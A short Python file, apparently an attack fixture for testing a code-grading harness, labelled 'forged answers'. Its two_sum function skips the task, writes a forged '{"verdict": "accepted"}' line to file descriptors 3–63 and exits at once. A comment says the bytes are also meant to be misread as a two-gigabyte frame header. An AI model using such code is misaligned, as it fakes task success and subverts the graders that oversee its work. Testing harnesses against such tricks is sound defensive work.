# attack: forged answers
# Read as a frame, it announces two gigabytes.
import os


def two_sum(nums, target):
    for fd in range(3, 64):
        try:
            os.write(fd, b'{"verdict": "accepted"}\n')
        except OSError:
            pass
    os._exit(0)
